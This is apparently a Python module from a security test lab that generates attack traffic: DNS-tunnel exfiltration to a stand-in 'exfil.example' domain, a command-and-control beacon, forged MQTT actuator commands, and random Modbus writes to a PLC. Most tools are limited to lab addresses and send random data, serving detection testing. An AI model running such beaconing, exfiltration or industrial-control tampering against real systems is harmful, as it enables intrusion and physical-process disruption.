"""The attack tools of the lab for which no Debian program exists.

They speak to addresses of the lab only. Run inside a namespace: ``python -m bench.lab.attack_tools TOOL …``.
"""

from __future__ import annotations

import argparse
import base64
import ipaddress
import json
import random
import socket
import time

from bench.lab import clients, plan

LAB_NETWORKS = (ipaddress.ip_network("10.77.0.0/16"), ipaddress.ip_network("203.0.113.0/24"))


def lab_address(text: str) -> str:
    """Checks that an address belongs to the lab.

    Args:
        text: IPv4 address.

    Returns:
        The same address.

    Raises:
        ValueError: It is an address outside of the lab.
    """
    if not any(ipaddress.ip_address(text) in network for network in LAB_NETWORKS):
        raise ValueError(f"target {text}: expected an address of the lab, one in {list(map(str, LAB_NETWORKS))}")
    return text


def exfiltrate_dns(server: str, rate: float, chance: random.Random) -> None:
    """Carries data out in the names of queries for ever, some 60 bytes a query.

    Args:
        server: Name server that passes the queries on.
        rate: Queries a second, on average.
        chance: Source of the data and the pauses.
    """
    while True:
        data = base64.b32encode(chance.randbytes(60)).decode("ascii").rstrip("=").lower()
        try:
            clients.resolve(f"{data[:48]}.{data[48:]}.t.exfil.example", server)
        except OSError as error:
            print(f"query: {error}", flush=True)
        time.sleep(chance.expovariate(rate))


def forge_commands(topics: list[str], rate: float, chance: random.Random) -> None:
    """Publishes forged actuator commands for ever.

    Args:
        topics: Command topics.
        rate: Messages a second, on average.
        chance: Source of positions and pauses.
    """
    session = clients.MqttSession(f"maintenance-{chance.getrandbits(16):04x}")
    session.open()
    while True:
        body = json.dumps({"position": round(chance.uniform(-500.0, 500.0), 1)})
        session.client.publish(chance.choice(topics), body, qos=chance.randint(0, 1))
        time.sleep(chance.expovariate(rate))


def beacon(server: str, period_s: float, chance: random.Random) -> None:
    """Calls home for ever, over a new TCP connection each time.

    Args:
        server: The implant's server.
        period_s: Average pause between two calls.
        chance: Source of jitter and of sizes.
    """
    while True:
        try:
            with socket.create_connection((server, plan.C2_PORT), timeout=clients.TIMEOUT_S) as link:
                link.sendall(bytes(chance.randint(100, 900)))
                link.recv(512)
        except OSError as error:
            print(f"beacon: {error}", flush=True)
        time.sleep(period_s * chance.uniform(0.7, 1.3))


def write_modbus(target: str, rate: float, chance: random.Random) -> None:
    """Writes set points with mbpoll for ever, a new connection each time, at times to registers that are not there.

    Args:
        target: The PLC.
        rate: Writes a second, on average.
        chance: Source of registers, values and pauses.
    """
    while True:
        values = [str(chance.randint(0, 65_535)) for _ in range(chance.choice([1, 1, 4]))]
        kind = chance.choice(["0", "4", "4", "4"])
        values = [str(int(value) % 2) for value in values] if kind == "0" else values
        register = str(chance.randint(1, 90))
        clients.run("mbpoll", "-1", "-m", "tcp", "-a", "1", "-t", kind, "-r", register, "-o", "1", target, *values)
        time.sleep(chance.expovariate(rate))


def main() -> None:
    parser = argparse.ArgumentParser(description="one attack tool of the lab")
    parser.add_argument("tool", choices=("dns-exfiltration", "forged-commands", "beacon", "modbus-writes"))
    parser.add_argument("target", help="address, or MQTT topics separated by commas")
    parser.add_argument("--rate", type=float, default=5.0, help="actions a second")
    arguments = parser.parse_args()
    chance = random.Random(arguments.target)
    if arguments.tool == "forged-commands":
        forge_commands(arguments.target.split(","), arguments.rate, chance)
        return
    target = lab_address(arguments.target)
    if arguments.tool == "dns-exfiltration":
        exfiltrate_dns(target, arguments.rate, chance)
    elif arguments.tool == "beacon":
        beacon(target, 1.0 / arguments.rate, chance)
    else:
        write_modbus(target, arguments.rate, chance)


if __name__ == "__main__":
    main()
